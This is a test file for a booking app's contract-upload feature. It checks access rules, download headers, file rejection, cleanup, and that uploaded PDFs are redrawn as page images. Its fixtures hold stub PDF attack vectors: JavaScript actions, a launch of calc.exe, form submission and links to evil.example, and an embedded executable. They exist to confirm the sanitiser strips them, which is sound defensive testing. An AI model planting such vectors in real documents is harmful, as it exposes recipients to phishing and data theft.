import sharp from 'sharp'
import { beforeAll, describe, expect, test } from 'vitest'
import type { ContractDocument } from '#contract/api/transfers.ts'
import { LIMITS } from '#contract/limits.ts'
import { HOUR } from '#server/platform/clock.ts'
import { anApp } from '#tests/builders/app.ts'
import { aBooking } from '#tests/builders/bookings.ts'
import { insideOf } from '#tests/builders/files/pdf-inside.ts'
import { aPackedPdf, aPdf, aProtectedPdf, FIRST_EXTRA } from '#tests/builders/files/pdfs.ts'
import { keptDocument, sendsDocument } from '#tests/builders/files/uploads.ts'
import { startsTransfer } from '#tests/builders/transfers.ts'
import { aCouple, anAdmin, aVenueOwner, type SignedIn } from '#tests/builders/users.ts'

const { app } = await anApp()
const admin = await anAdmin(app)

const sends = (who: Pick<SignedIn, 'client'>, bytes: Uint8Array, name?: string) => sendsDocument(app, who, bytes, name)
const removes = (who: SignedIn, id: number) => who.client.try('DELETE /api/transfer-documents/{id}', { params: { id } })
const loose = (who: SignedIn) => who.client.call('GET /api/transfer-documents')
/** Sends a document that is accepted. */
async function keeps(couple: SignedIn, bytes: Uint8Array = aPdf()): Promise<ContractDocument> {
  const answer = await sends(couple, bytes)
  if (answer.status !== 201) throw new Error(`the document was refused: ${await answer.text()}`)
  return answer.json()
}
/** The keys under which this couple's files are stored. */
async function keysOf({ id }: SignedIn): Promise<string[]> {
  const files = app.services.db.selectFrom('files').select('storage_key as key').where('owner_id', '=', id)
  return (await files.execute()).map(({ key }) => key)
}
/** What is left of this couple's documents: how many rows, how many files, and how many of `keys` can still be read. */
async function leftOf(who: SignedIn, keys: readonly string[]): Promise<number[]> {
  await app.settle()
  const { db, files } = app.services
  const rows = await db.selectFrom('transfer_documents').select('id').where('owner_id', '=', who.id).execute()
  const read = await Promise.allSettled(keys.map((key) => files.read(key)))
  return [rows.length, (await keysOf(who)).length, read.filter(({ status }) => status === 'fulfilled').length]
}

test('contract documents are kept privately: for the couple, the venue of the transfer and admins', async () => {
  const { couple, listing, checkout } = await aBooking(app).confirmed()
  const sent = await sends(couple, aPdf(), '../Our "contract".pdf')
  expect(sent.status).toBe(201)
  const document = await sent.json()
  const path = `/api/transfer-documents/${document.id}`
  const sees = async (who: { client: SignedIn['client'] }) => (await who.client.raw(path)).status
  expect(await sees(listing.venue.owner)).toBe(404)
  const body = { originalBookingId: checkout.bookingId, transferPrice: '2700', contractDocuments: [document.id] }
  expect((await couple.client.call('POST /api/transfers', { body })).contractDocuments).toEqual([document])
  expect(await Promise.all([couple, listing.venue.owner, admin].map(sees))).toEqual([200, 200, 200])
  expect(await Promise.all([await aCouple(app), await aVenueOwner(app)].map(sees))).toEqual([404, 404])
  expect(await sees({ client: app.visitor() })).toBe(401)
  const download = await couple.client.raw(path)
  expect(Object.fromEntries(download.headers)).toMatchObject({
    'content-disposition': expect.stringMatching(/^attachment; filename="[\w.() _-]+"$/),
    'content-security-policy': expect.stringContaining("default-src 'none'; sandbox"),
    'content-type': 'application/pdf',
    'x-content-type-options': 'nosniff',
  })
  expect((await download.arrayBuffer()).byteLength).toBe(document.bytes)
})

describe('a PDF is stored as pictures of its pages', () => {
  /** All the names that a PDF of pictures needs. */
  const NAMES = new Set([
    ...['Root', 'Size', 'ID', 'Info', 'Producer', 'Creator', 'CreationDate', 'Type', 'Catalog', 'Names', 'Dests'],
    ...['Pages', 'Kids', 'Count', 'Parent', 'Page', 'MediaBox', 'UserUnit', 'Contents', 'Resources', 'ProcSet', 'PDF'],
    ...['Text', 'ImageB', 'ImageC', 'ImageI', 'XObject', 'Subtype', 'Image', 'Width', 'Height', 'BitsPerComponent'],
    ...['ColorSpace', 'DeviceRGB', 'DeviceGray', 'DecodeParms', 'Predictor', 'Colors', 'Columns', 'Length', 'Filter'],
    ...['FlateDecode', 'DCTDecode', 'I1', 'I2', 'I3'],
  ])
  let couple: SignedIn
  beforeAll(async () => {
    couple = (await aBooking(app).confirmed()).couple
  })
  /** What is stored of an uploaded document, which the couple then removes again. */
  async function rebuilt(sent: Uint8Array) {
    const document = await keeps(couple, sent)
    const kept = await keptDocument(couple, document.id)
    await removes(couple, document.id)
    return { document, kept }
  }
  const nothing = { text: '', annotations: 0, attachments: 0, scripts: 0 }
  const action = (entries: string) => ({
    catalog: `/OpenAction ${FIRST_EXTRA} 0 R`,
    objects: [`<< ${entries} >>`],
  })
  const annotation = (entries: string) => ({
    page: `/Annots [${FIRST_EXTRA} 0 R]`,
    objects: [`<< /Type /Annot /Rect [72 400 300 430] ${entries} >>`],
  })
  const script = '/S /JavaScript /JS (app.alert(1))'
  const attachment = [
    `<< /Names [(bill.exe) ${FIRST_EXTRA + 1} 0 R] >>`,
    `<< /Type /Filespec /F (bill.exe) /EF << /F ${FIRST_EXTRA + 2} 0 R >> >>`,
    { dictionary: '/Type /EmbeddedFile', stream: 'MZ' },
  ]

  test.each([
    ['a script', aPdf(action(script))],
    ['a script written in hex', aPdf(action('/S /J#61vaScript /JS (app.alert(1))'))],
    ['a script in packed objects', aPackedPdf(action(script))],
    ['a script in packed objects behind a false beginning', aPackedPdf(action(script), '/X(obj)')],
    ['a script by name', aPdf({ catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>` })],
    ['a script of a page', aPdf({ page: `/AA << /O << ${script} >> >>` })],
    ['a program', aPdf(action('/S /Launch /F (calc.exe)'))],
    ['a path on another machine', aPdf(action('/S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit]'))],
    ['an address', aPdf(action('/S /URI /URI (http://evil.example)'))],
    ['a link', aPdf(annotation('/Subtype /Link /A << /S /URI /URI (http://evil.example) >>'))],
    ['a note', aPdf(annotation('/Subtype /Text /Contents (secret)'))],
    ['a film', aPdf(annotation('/Subtype /Screen /A << /S /Rendition /JS (app.alert(1)) >>'))],
    ['an attachment', aPdf({ catalog: `/Names << /EmbeddedFiles ${FIRST_EXTRA} 0 R >>`, objects: attachment })],
    [
      'a field that is sent',
      aPdf({
        catalog: `/AcroForm << /Fields [${FIRST_EXTRA} 0 R] >>`,
        ...annotation(
          '/Subtype /Widget /FT /Tx /T (secret) /V (secret) /A << /S /SubmitForm /F (http://evil.example) >>',
        ),
      }),
    ],
    ['letters that nobody sees', aPdf({ content: 'BT 3 Tr /F1 12 Tf 72 620 Td (secret) Tj ET' })],
    ['white letters', aPdf({ content: '1 g BT /F1 12 Tf 72 620 Td (secret) Tj ET' })],
    ['letters off the page', aPdf({ content: 'BT /F1 12 Tf 900 900 Td (secret) Tj ET' })],
    [
      'a hidden layer',
      aPdf({
        catalog: `/OCProperties << /OCGs [${FIRST_EXTRA} 0 R] /D << /OFF [${FIRST_EXTRA} 0 R] >> >>`,
        content: '/OC /L BDC BT /F1 12 Tf 72 620 Td (secret) Tj ET EMC',
        page: `/Resources << /Font << /F1 3 0 R >> /Properties << /L ${FIRST_EXTRA} 0 R >> >>`,
        objects: ['<< /Type /OCG /Name (secret) >>'],
      }),
    ],
    ['words about its maker', aPdf({ trailer: `/Info ${FIRST_EXTRA} 0 R`, objects: ['<< /Author (secret) >>'] })],
  ])('without %s', async (_, sent) => {
    const { document, kept } = await rebuilt(sent)
    expect(document).toMatchObject({ contentType: 'application/pdf', bytes: kept.length })
    const { names, sizes, look: _look, ...rest } = await insideOf(kept)
    expect(rest).toEqual(nothing)
    expect(sizes).toEqual([[612, 792]])
    expect([...names].filter((name) => !NAMES.has(name))).toEqual([])
    expect(kept.toString('latin1')).not.toMatch(/secret|evil|alert/)
  })

  test('every page keeps its size, and the same pages make the same file', async () => {
    const sent = aPdf({ pages: 3, mediaBox: '[0 0 595.28 841.89]' })
    const { kept } = await rebuilt(sent)
    const { sizes } = await insideOf(kept)
    for (const [width, height] of sizes)
      expect([width, height]).toEqual([expect.closeTo(595.28), expect.closeTo(841.89)])
    expect(sizes).toHaveLength(3)
    expect((await rebuilt(sent)).kept.equals(kept)).toBe(true)
  })

  test('the pages look as before: letters, filled-in fields and stamps', async () => {
    const words = (text: string) => ({
      dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /Helv 3 0 R >> >>',
      stream: `BT /Helv 18 Tf 2 8 Td (${text}) Tj ET`,
    })
    const filled = aPdf({
      catalog: `/AcroForm << /Fields [${FIRST_EXTRA} 0 R] /DA (/Helv 18 Tf 0 g) >>`,
      page: `/Annots [${FIRST_EXTRA} 0 R ${FIRST_EXTRA + 1} 0 R]`,
      objects: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ana and Tom) /F 4 /Rect [72 500 372 530] /AP << /N ${FIRST_EXTRA + 2} 0 R >> >>`,
        `<< /Type /Annot /Subtype /Stamp /F 4 /Rect [72 400 372 430] /AP << /N ${FIRST_EXTRA + 3} 0 R >> >>`,
        words('Ana and Tom'),
        words('Paid in full'),
      ],
    })
    const written = aPdf({
      content: `BT /F1 24 Tf 72 680 Td (Venue contract) Tj ET
        BT /F1 18 Tf 74 508 Td (Ana and Tom) Tj ET BT /F1 18 Tf 74 408 Td (Paid in full) Tj ET`,
    })
    const look = async (sent: Uint8Array) => (await insideOf((await rebuilt(sent)).kept)).look
    const [fields, letters, title] = [await look(filled), await look(written), await look(aPdf())]
    const far = differenceOf(letters, title)
    expect(differenceOf(letters, fields)).toBeLessThan(far / 5)
    expect(differenceOf(letters, (await insideOf(written)).look)).toBeLessThan(far)
  })

  /** How far two pictures are apart, in steps of brightness per byte. */
  function differenceOf(one: Uint8Array, other: Uint8Array): number {
    return one.reduce((sum, byte, at) => sum + Math.abs(byte - (other[at] ?? 0)), 0) / one.length
  }
})

describe('what can’t be drawn is refused with a message that says what to do', () => {
  const whole = aPdf({ pages: 2 })
  const photo = sharp({ create: { width: 30, height: 20, channels: 3, background: 'white' } })
  test.each([
    ['a protected PDF', aProtectedPdf(), 415, /protected.*save a copy without/],
    ['the beginning of a PDF', whole.subarray(0, 40), 415, /damaged.*print it to a new PDF/],
    ['a PDF without pages', Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF'), 415, /damaged/],
    ['41 pages', aPdf({ pages: 41 }), 413, /41 pages, and the limit is 40/],
    ['a page as large as a house', aPdf({ mediaBox: '[0 0 99999 99999]' }), 413, /larger than 200 inches/],
    ['a web page', Buffer.from('<!doctype html><p>contract</p>'), 415, /not a PDF, JPEG or PNG/],
    ['nothing', Buffer.alloc(0), 400, /empty/],
    ['a photo of a kind that scanners don’t make', photo.webp().toBuffer(), 415, /not a PDF, JPEG or PNG/],
  ])('%s', async (_, sent, status, message) => {
    const { couple } = await aBooking(app).confirmed()
    const answer = await sends(couple, await sent)
    expect([answer.status, await answer.json()]).toEqual([
      status,
      { code: expect.any(String), message: expect.stringMatching(message) },
    ])
    expect(await loose(couple)).toEqual([])
    expect(await keysOf(couple)).toEqual([])
  })

  test('so is everything from a couple without a booking, hold or not, and from venues and admins', async () => {
    const { couple } = await aBooking(app).held()
    for (const who of [couple, await aCouple(app)]) {
      const answer = await sends(who, aPdf())
      expect([answer.status, (await answer.json()).code]).toEqual([409, 'not_transferable'])
    }
    for (const who of [await aVenueOwner(app), admin]) expect((await sends(who, aPdf())).status).toBe(403)
    expect((await sends({ client: app.visitor() }, aPdf())).status).toBe(401)
  })
})

test('photos of pages are re-encoded', async () => {
  const { couple } = await aBooking(app).confirmed()
  const photo = await sharp({ create: { width: 20, height: 20, channels: 3, background: 'white' } })
    .withExif({ IFD0: { Artist: 'Somebody' } })
    .jpeg()
    .toBuffer()
  const document = await keeps(couple, photo)
  expect(document.contentType).toBe('image/webp')
  expect((await keptDocument(couple, document.id)).includes('Somebody')).toBe(false)
})

test('another couple’s contract documents can’t be used for a transfer', async () => {
  const { couple, checkout } = await aBooking(app).confirmed()
  const { id } = await keeps((await aBooking(app).confirmed()).couple)
  const body = { originalBookingId: checkout.bookingId, transferPrice: '2700', contractDocuments: [id] }
  expect((await couple.client.try('POST /api/transfers', { body })).status).toBe(400)
  expect(await couple.client.call('GET /api/transfers/my')).toEqual([])
})

test('contract documents wait for their transfer, are shown again after a reload, and can be removed one by one', async () => {
  const { couple, checkout } = await aBooking(app).confirmed()
  const kept = []
  for (let count = 0; count < LIMITS.documentsPerTransfer; count += 1) kept.push(await keeps(couple))
  expect(await loose(couple)).toEqual(kept)
  expect(await (await sends(couple, aPdf())).json()).toMatchObject({ code: 'too_many_documents' })
  const [first, second] = kept as [ContractDocument, ContractDocument]
  const keys = await keysOf(couple)
  expect((await removes(await aCouple(app), first.id)).status).toBe(404)
  expect((await removes(couple, first.id)).body).toEqual({ ok: true })
  expect((await removes(couple, first.id)).status).toBe(404)
  expect(await leftOf(couple, keys)).toEqual([5, 5, 5])
  expect((await sends(couple, aPdf())).status).toBe(201)
  await startsTransfer(couple, checkout.bookingId, '2700', [second.id])
  expect(await removes(couple, second.id)).toMatchObject({ status: 409, body: { code: 'state_changed' } })
  expect(await loose(couple)).toHaveLength(5)
})

test('contract documents that no transfer takes within a day are removed; those of a transfer stay', async () => {
  const { couple, checkout } = await aBooking(app).confirmed()
  const { id } = await keeps(couple)
  await startsTransfer(couple, checkout.bookingId, '2700', [id])
  await keeps(couple)
  const keys = await keysOf(couple)
  await app.clock.advance(23 * HOUR)
  await app.settle()
  expect(await loose(couple)).toHaveLength(1)
  await app.clock.advance(HOUR)
  expect(await leftOf(couple, keys)).toEqual([1, 1, 1])
  expect(await loose(couple)).toEqual([])
})

test('contract documents are erased with their account, once its transfers have ended', async () => {
  const { couple, checkout } = await aBooking(app).confirmed()
  const { id } = await keeps(couple)
  const transfer = await startsTransfer(couple, checkout.bookingId, '2700', [id])
  await keeps(couple)
  await couple.client.call('POST /api/transfers/{id}/withdraw', { params: { id: transfer.id } })
  const { bookingId } = checkout
  const { refund } = await couple.client.call('GET /api/bookings/{id}/cancellation', { params: { id: bookingId } })
  const body = { refund, reason: 'We stay at home' }
  await couple.client.call('POST /api/bookings/{id}/cancel', { params: { id: bookingId }, body })
  const keys = await keysOf(couple)
  expect(await leftOf(couple, keys)).toEqual([2, 2, 2])
  await admin.client.call('DELETE /api/admin/users/{id}', { params: { id: couple.id } })
  expect(await leftOf(couple, keys)).toEqual([0, 0, 0])
})
